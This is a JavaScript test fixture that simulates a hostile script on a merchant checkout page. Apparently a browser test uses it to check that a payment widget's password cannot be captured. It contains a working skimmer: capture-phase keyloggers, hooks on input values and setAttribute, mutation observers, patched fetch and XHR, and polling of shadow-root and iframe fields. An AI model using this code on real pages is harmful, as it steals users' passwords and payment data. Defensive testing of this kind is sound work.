// A hostile script on a merchant's page (tests/tests/browser_pay_frame.rs): everything a third-
// party tag or an XSS could do to catch the pay password. What it catches is in
// `window.hostileCaptured` (strings); `window.hostileKeys` holds every key it saw pressed.
//   - keyloggers: keydown/keypress/keyup/input/change/paste listeners in the capture phase on
//     window and document, and on the widget's open shadow root once there;
//   - a shadow-root reader: every 50 ms, every input's value in the page and the widget's shadow
//     root, and the frames' sources (and their documents, which the browser must refuse);
//   - hooks on HTMLInputElement's value and on setAttribute, a MutationObserver on the page and
//     the shadow root (attributes, text, nodes);
//   - patched fetch and XMLHttpRequest (URL, headers, body), and a message listener.
(function () {
  "use strict";
  var captured = (window.hostileCaptured = []);
  var keys = (window.hostileKeys = []);
  function keep(what, value) {
    try {
      captured.push(what + ":" + (typeof value === "string" ? value : JSON.stringify(value)));
    } catch (e) {
      captured.push(what + ":" + String(value));
    }
  }

  function logKeys(target, where) {
    ["keydown", "keypress", "keyup"].forEach(function (type) {
      target.addEventListener(type, function (event) {
        keys.push(event.key);
        keep(where + "." + type, event.key);
      }, true);
    });
    ["input", "change", "paste", "beforeinput"].forEach(function (type) {
      target.addEventListener(type, function (event) {
        var path = event.composedPath ? event.composedPath() : [];
        var field = path[0] || event.target;
        keep(where + "." + type, (field && field.value) || event.data || "");
      }, true);
    });
  }
  logKeys(window, "window");
  logKeys(document, "document");

  var valueProperty = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
  Object.defineProperty(HTMLInputElement.prototype, "value", {
    configurable: true,
    get: function () {
      var value = valueProperty.get.call(this);
      keep("value.get", value);
      return value;
    },
    set: function (value) {
      keep("value.set", value);
      valueProperty.set.call(this, value);
    }
  });
  var setAttribute = Element.prototype.setAttribute;
  Element.prototype.setAttribute = function (name, value) {
    keep("setAttribute." + name, String(value));
    return setAttribute.call(this, name, value);
  };

  function observe(root, where) {
    new MutationObserver(function (records) {
      records.forEach(function (r) {
        keep(where + ".mutation", [r.type, r.attributeName,
          r.target && r.target.nodeValue, r.target && r.target.getAttribute
            ? r.target.getAttribute(r.attributeName || "value") : null]);
      });
    }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true,
      characterDataOldValue: true, attributeOldValue: true });
  }
  observe(document, "document");

  var fetch = window.fetch;
  window.fetch = function (input, init) {
    var url = typeof input === "string" ? input : input && input.url;
    keep("fetch", { url: url, init: init && { headers: init.headers, body: init.body } });
    if (input && typeof input.clone === "function") {
      input.clone().text().then(function (body) { keep("fetch.body", body); }, function () {});
    }
    return fetch.apply(this, arguments);
  };
  var open = XMLHttpRequest.prototype.open;
  var send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url) {
    keep("xhr.open", url);
    return open.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    keep("xhr.send", body);
    return send.apply(this, arguments);
  };
  window.addEventListener("message", function (event) {
    keep("message", { origin: event.origin, data: event.data });
  }, true);

  var watchedShadow = null;
  setInterval(function () {
    var host = document.getElementById("checkout");
    var shadow = host && host.shadowRoot;
    if (shadow && shadow !== watchedShadow) {
      watchedShadow = shadow;
      logKeys(shadow, "shadow");
      observe(shadow, "shadow");
    }
    [document, shadow].forEach(function (root) {
      if (!root) return;
      Array.prototype.forEach.call(root.querySelectorAll("input, textarea"), function (field) {
        keep("read", valueProperty.get.call(field));
      });
      Array.prototype.forEach.call(root.querySelectorAll("iframe"), function (frame) {
        keep("frame.src", frame.src);
        try {
          var inner = frame.contentDocument || frame.contentWindow.document;
          Array.prototype.forEach.call(inner.querySelectorAll("input"), function (field) {
            keep("frame.read", field.value);
          });
        } catch (e) {
          keep("frame.refused", e.name);
        }
      });
    });
  }, 50);
})();
